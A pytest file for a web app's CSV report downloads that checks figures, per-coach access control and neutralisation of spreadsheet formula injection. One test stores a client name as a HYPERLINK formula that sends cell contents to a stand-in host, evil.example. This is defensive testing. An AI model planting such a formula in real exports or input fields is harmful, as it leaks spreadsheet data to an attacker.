"""The CSV downloads open in a spreadsheet parser with the same values, and nothing runs."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.web.test_reports_page import _seed
from webapp.extensions import db
from webapp.models import User
from webapp.rules.spreadsheet import csv_text, inert

NOW = datetime(2026, 1, 10, 9, 0, tzinfo=UTC)
pytestmark = pytest.mark.usefixtures("frozen_clock")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _read(response) -> list[dict[str, str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_month_csv_has_the_pages_figures_as_decimal_strings(app, pair, coach):
    _seed(app, pair)
    rows = _read(coach.get("/reports/months.csv?from=2025-11&to=2026-01&currency=GBP"))
    assert [r["month"] for r in rows] == ["2025-11", "2025-12", "2026-01"]
    assert rows[0]["paid"] == "100.00" and rows[0]["revenue"] == "100.00"
    assert rows[1]["refunded"] == "15.00" and rows[1]["revenue"] == "-15.00"
    assert rows[1]["sessions_delivered"] == "1" and rows[1]["active_clients"] == "1"
    assert {r["currency"] for r in rows} == {"GBP"}


def test_a_client_named_like_a_formula_comes_out_inert(app, pair, coach):
    _seed(app, pair)
    with app.app_context():
        db.session.get(User, pair.person_id).name = EVIL
        db.session.commit()
    ledger = _read(coach.get("/reports/ledger.csv"))
    assert [r["client"] for r in ledger] == ["'" + EVIL] * 2
    assert [(r["kind"], r["amount"], r["currency"]) for r in ledger] == [
        ("manual", "100.00", "GBP"),
        ("refund", "15.00", "GBP"),
    ]
    owed = _read(coach.get("/reports/liability.csv?currency=GBP"))
    assert [(r["sessions_left"], r["owed"]) for r in owed] == [("2", "66.66")]


def test_the_ledger_csv_is_only_the_coachs_own(app, pair, coach):
    from tests.support.plusone import make_pair

    other = make_pair(app, n=2)
    _seed(app, other)
    assert _read(coach.get("/reports/ledger.csv")) == []
    assert coach.get(f"/reports/ledger.csv?client={other.person_id}").status_code == 404


def test_re_importing_the_csv_gives_back_every_value():
    rows = [["=1+1", "+44 20", "-x", "@SUM(A1)", "plain, with comma", 'quote "q"', "é ✓", 7]]
    text = csv_text(["a", "b", "c", "d", "e", "f", "g", "h"], rows)
    (back,) = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
    assert back == [
        "'=1+1",
        "'+44 20",
        "'-x",
        "'@SUM(A1)",
        "plain, with comma",
        'quote "q"',
        "é ✓",
        "7",
    ]
    assert [value.removeprefix("'") for value in back[:4]] == rows[0][:4]
    assert inert("\tcmd") == "'\tcmd" and inert("safe") == "safe"
